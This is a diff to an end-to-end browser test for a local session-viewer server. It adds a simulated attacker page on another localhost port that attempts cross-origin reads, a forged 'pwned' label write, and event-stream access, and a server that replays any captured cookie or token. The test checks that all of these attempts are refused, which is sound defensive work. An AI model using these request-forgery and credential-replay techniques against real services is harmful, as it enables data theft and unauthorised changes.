@@ -1,7 +1,9 @@
 // End-to-end tests of `pi-session serve` in a real browser: Chromium through Playwright against
 // the server on generated sessions (tests/e2e/fixtures.mjs). The journeys of the window: open a
-// session, the context preview, navigate with --allow-writes (one line appended); and 401
-// without the token, no CSP violation, live updates over SSE. Screenshots of every step go to
+// session, the context preview, navigate with --allow-writes (one line appended); the token only
+// as a Bearer header (the page needs none, the printed URL's fragment gives it to the page); a
+// page on another port of 127.0.0.1 that gets nothing (copied demo sessions); no CSP violation,
+// live updates over the event stream. Screenshots of every step go to
 // tests/e2e/screenshots/serve-<stamp>/ (printed at the end).
 //
 //   node tests/serve/run.mjs
@@ -10,9 +12,10 @@
 // (npm --prefix ui run build, then cargo build -p pi-session-cli). PI_SESSION_BIN overrides it.
 
 import assert from "node:assert/strict";
-import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { appendFileSync, cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, statSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
 import { tmpdir } from "node:os";
-import { join } from "node:path";
+import { dirname, join } from "node:path";
 
 import { writeFixtures } from "../e2e/fixtures.mjs";
 import { browser, q, repo, serve } from "./lib.mjs";
@@ -22,6 +25,56 @@ const shots = join(repo, "tests/e2e/screenshots", `serve-${stamp}`);
 mkdirSync(shots, { recursive: true });
 
 const lines = (f) => readFileSync(f, "utf8").split("\n").filter(Boolean);
+const walk = (d) => readdirSync(d).flatMap((n) => (statSync(join(d, n)).isDirectory() ? walk(join(d, n)) : [join(d, n)])).sort();
+
+/**
+ * The attacker: a server on another port of 127.0.0.1 whose page tries to read and write
+ * through the user's browser — fetch with credentials to /api/search_indexed and
+ * /api/list_sessions, a `no-cors` `text/plain` POST to /api/set_label, an EventSource on
+ * /api/events — and that records every request it gets (a cookie or a token would be replayed).
+ */
+async function attackerServer(target) {
+	const requests = [];
+	const page = `<!doctype html><meta charset="utf-8"><title>another site</title><p>nothing to see</p><script>
+const q = new URLSearchParams(location.search);
+const T = q.get("target"), path = q.get("path"), id = q.get("id");
+const out = {};
+const show = async (r) => r.type === "opaque" ? "opaque (unreadable)" : r.status + " " + (await r.text()).slice(0, 300);
+const tries = {
+	search_indexed: () => fetch(T + "/api/search_indexed", { method: "POST", credentials: "include", headers: { "content-type": "application/json" }, body: JSON.stringify({ query: "the", limit: 5 }) }).then(show),
+	list_sessions: () => fetch(T + "/api/list_sessions", { method: "POST", credentials: "include", body: "{}" }).then(show),
+	list_sessions_no_cors: () => fetch(T + "/api/list_sessions", { method: "POST", mode: "no-cors", credentials: "include", body: "{}" }).then(show),
+	set_label: () => fetch(T + "/api/set_label", { method: "POST", mode: "no-cors", credentials: "include", headers: { "content-type": "text/plain" }, body: JSON.stringify({ path, id, label: "pwned" }) }).then(show),
+};
+window.__attack = (async () => {
+	for (const [k, f] of Object.entries(tries)) {
+		try { out[k] = await f(); } catch (e) { out[k] = "error: " + e.message; }
+	}
+	out.eventsource = await new Promise((done) => {
+		const es = new EventSource(T + "/api/events", { withCredentials: true });
+		es.onerror = () => { es.close(); done("error"); };
+		es.onmessage = es.onopen = () => { es.close(); done("event received"); };
+		setTimeout(() => { es.close(); done("no answer"); }, 5000);
+	});
+	await fetch("/report", { method: "POST", body: JSON.stringify(out) });
+	return out;
+})();
+</script>`;
+	const server = createServer((req, res) => {
+		requests.push({ url: req.url, cookie: req.headers.cookie ?? null, authorization: req.headers.authorization ?? null });
+		// A credential would be replayed against the server, as a real attacker's server would.
+		if (req.headers.cookie || req.headers.authorization) {
+			fetch(target + "/api/list_sessions", { method: "POST", headers: { cookie: req.headers.cookie ?? "", authorization: req.headers.authorization ?? "", "content-type": "application/json" }, body: "{}" }).then((r) => requests.push({ url: "replay", status: r.status }));
+		}
+		req.resume();
+		req.on("end", () => {
+			res.writeHead(200, { "content-type": req.url.startsWith("/report") ? "text/plain" : "text/html" });
+			res.end(req.url.startsWith("/report") ? "ok" : page);
+		});
+	});
+	await new Promise((ok) => server.listen(0, "127.0.0.1", ok));
+	return { origin: `http://127.0.0.1:${server.address().port}`, requests, close: () => new Promise((ok) => (server.close(ok), server.closeAllConnections())) };
+}
 
 /** A page on the server, with CSP violations and page errors collected. */
 async function open(b, srv, path = "/") {
@@ -49,31 +102,115 @@ async function selectRow(page, id) {
 
 const specs = [
 	{
-		name: "without the token: 401 for the page, the API and the events; with it the page loads",
+		name: "the page needs no token and holds none; the API takes only the Bearer header; the token leaves the address bar and survives a reload",
 		async run({ b, fx }) {
 			const srv = await serve(fx.root);
 			try {
-				const page = await b.ctx.newPage();
+				assert.match(srv.url, /^http:\/\/127\.0\.0\.1:\d+\/#token=[0-9a-f]{64}$/, "the token is in the fragment");
+				let page = await b.ctx.newPage();
 				const res = await page.goto(srv.origin + "/");
-				assert.equal(res.status(), 401, "the page without the token");
+				assert.equal(res.status(), 200, "the page without the token");
+				assert.ok(!(await res.text()).includes(srv.token), "the page holds no token");
+				const api = await page.evaluate(async () => (await fetch("/api/list_sessions", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" })).status);
+				assert.equal(api, 401, "the API without the token");
 				await page.screenshot({ path: join(shots, "401-no-token.png") });
-				const wrong = await page.goto(`${srv.origin}/?token=${"0".repeat(srv.token.length)}`);
-				assert.equal(wrong.status(), 401, "a wrong token");
-				const api = await page.evaluate(async () => (await fetch("/api/list_sessions", { method: "POST", body: "{}" })).status);
-				assert.equal(api, 401, "the API without the cookie");
-				for (const [p, init] of [["/api/list_sessions", { method: "POST", body: "{}" }], ["/api/events", {}], ["/assets/", {}]]) {
-					assert.equal((await fetch(srv.origin + p, init)).status, 401, p);
+				assert.equal(await page.locator("[data-testid=session-row]").count(), 0, "no sessions without the token");
+				const json = { "content-type": "application/json" };
+				for (const [p, init] of [
+					["/api/list_sessions", { method: "POST", headers: json, body: "{}" }],
+					["/api/list_sessions", { method: "POST", headers: { ...json, cookie: `pi_session_token=${srv.token}` }, body: "{}" }],
+					[`/api/list_sessions?token=${srv.token}`, { method: "POST", headers: json, body: "{}" }],
+					["/api/events", {}],
+					["/api/events", { headers: { cookie: `pi_session_token=${srv.token}` } }],
+				]) {
+					assert.equal((await fetch(srv.origin + p, init)).status, 401, `${p} ${JSON.stringify(init.headers ?? {})}`);
 				}
-				// The printed URL sets the cookie and drops the token from the address bar.
-				const ok = await page.goto(srv.url);
-				assert.equal(ok.status(), 200);
-				assert.equal(new URL(page.url()).search, "", "the token is gone from the address");
+				const bearer = await fetch(srv.origin + "/api/list_sessions", { method: "POST", headers: { ...json, authorization: `bearer ${srv.token}` }, body: "{}" });
+				assert.equal(bearer.status, 200, "the Bearer header, the scheme in any case");
+				// The printed URL (in a new tab: from the same page only the fragment would change):
+				// the page reads the token, drops it from the address bar, keeps it in this tab's
+				// sessionStorage, and no cookie is set.
+				await page.close();
+				page = await b.ctx.newPage();
+				await page.goto(srv.url);
 				await page.locator("[data-testid=session-row]").first().waitFor();
-				const cookies = await b.ctx.cookies(srv.origin);
-				assert.ok(cookies.some((c) => c.name === "pi_session_token" && c.httpOnly && c.sameSite === "Strict"), JSON.stringify(cookies));
+				assert.ok(!page.url().includes(srv.token) && !page.url().includes("token"), `the token is gone from the address: ${page.url()}`);
+				assert.equal(await page.evaluate(() => window.sessionStorage.getItem("pi-session-token")), srv.token);
+				assert.deepEqual(await b.ctx.cookies(srv.origin), [], "no cookie");
+				await page.reload();
+				await page.locator("[data-testid=session-row]").first().waitFor();
+				assert.ok(!(await page.content()).includes(srv.token), "the rendered page shows no token");
 				await page.close();
 			} finally {
 				await srv.stop();
+			}
+		},
+	},
+	{
+		name: "a page on another port of 127.0.0.1 gets nothing: no cookie or token reaches it, every attempt refused, files byte-identical; the UI still works",
+		async run({ b }) {
+			// Copied demo sessions, writes allowed: the worst case.
+			const dir = mkdtempSync(join(tmpdir(), "pi-serve-attack-"));
+			const root = join(dir, "sessions");
+			cpSync(join(repo, "demo/sessions"), root, { recursive: true });
+			const files = () => Object.fromEntries(walk(root).map((f) => [f, readFileSync(f).toString("base64")]));
+			const srv = await serve(root, ["--allow-writes"]);
+			const attacker = await attackerServer(srv.origin);
+			try {
+				// The user opens the printed URL.
+				const { page: ui, problems } = await open(b, srv);
+				const rows = ui.locator("[data-testid=session-row]");
+				await rows.first().waitFor();
+				assert.ok((await rows.count()) >= 5, `sessions listed: ${await rows.count()}`);
+				const target = walk(root).find((f) => f.endsWith(".jsonl"));
+				const lastId = JSON.parse(readFileSync(target, "utf8").trim().split("\n").at(-1)).id;
+				const before = files();
+
+				// Then visits a page on another port of 127.0.0.1.
+				const evil = await b.ctx.newPage();
+				// The answers the server gave, as the network saw them (the browser hides from the
+				// page, and from Playwright's events, what CORS or CORP blocks).
+				const seen = [];
+				const urls = new Map();
+				const cdp = await b.ctx.newCDPSession(evil);
+				cdp.on("Network.requestWillBeSent", (e) => urls.set(e.requestId, [e.request.method, e.request.url]));
+				cdp.on("Network.responseReceivedExtraInfo", (e) => seen.push({ id: e.requestId, status: e.statusCode }));
+				await cdp.send("Network.enable");
+				await evil.goto(`${attacker.origin}/?target=${encodeURIComponent(srv.origin)}&path=${encodeURIComponent(realpathSync(target))}&id=${encodeURIComponent(lastId)}`);
+				const results = await evil.evaluate(() => window.__attack);
+				const answers = seen.map(({ id, status }) => [...(urls.get(id) ?? ["?", "?"]), status]).filter(([, u]) => u.startsWith(srv.origin)).map(([m, u, st]) => [m, new URL(u).pathname, st]);
+				await evil.screenshot({ path: join(shots, "attacker-page.png") });
+				console.log(`     attacker's page: ${JSON.stringify(results)}`);
+				console.log(`     answers the server gave it: ${JSON.stringify(answers)}`);
+				// Nothing readable, no event received.
+				for (const [name, r] of Object.entries(results)) {
+					assert.ok(!/^2\d\d /.test(r) && !r.includes("sessions") && !r.includes("event received"), `${name}: ${r}`);
+				}
+				assert.equal(results.eventsource, "error", "the EventSource failed");
+				// Every attempt reached the server and was refused (the JSON one as its preflight).
+				assert.ok(answers.length >= 5 && answers.every(([, , st]) => st === 403), JSON.stringify(answers));
+				for (const p of ["/api/search_indexed", "/api/set_label", "/api/list_sessions", "/api/events"]) assert.ok(answers.some(([, q]) => q === p), `${p} reached the server and was refused`);
+				// No cookie or token reached the attacker's server (so nothing to replay).
+				assert.ok(attacker.requests.length >= 2, `the attacker's server saw its page: ${attacker.requests.length}`);
+				const leaked = attacker.requests.filter((r) => r.cookie || r.authorization || r.url.includes(srv.token));
+				assert.deepEqual(leaked, [], "credentials reached the attacker");
+				assert.deepEqual(files(), before, "the session files are byte-identical");
+				await evil.close();
+
+				// The UI still works: a new session file arrives over the event stream (fetch()).
+				const t0 = Date.now();
+				const copy = join(dirname(target), "2030-01-01T00-00-00-000Z_live.jsonl");
+				const text = readFileSync(target, "utf8");
+				const id = JSON.parse(text.split("\n")[0]).id;
+				writeFileSync(copy, text.replace(id, "live-session-0001"));
+				await ui.locator(`[data-testid=session-row][data-path=${q(realpathSync(copy))}]`).waitFor({ timeout: 10000 });
+				console.log(`     new session listed after ${Date.now() - t0} ms (live update)`);
+				await ui.screenshot({ path: join(shots, "attack-ui-still-works.png") });
+				assert.deepEqual(problems, [], "no CSP violation or page error");
+			} finally {
+				await attacker.close();
+				await srv.stop();
+				rmSync(dir, { recursive: true, force: true });
 			}
 		},
 	},
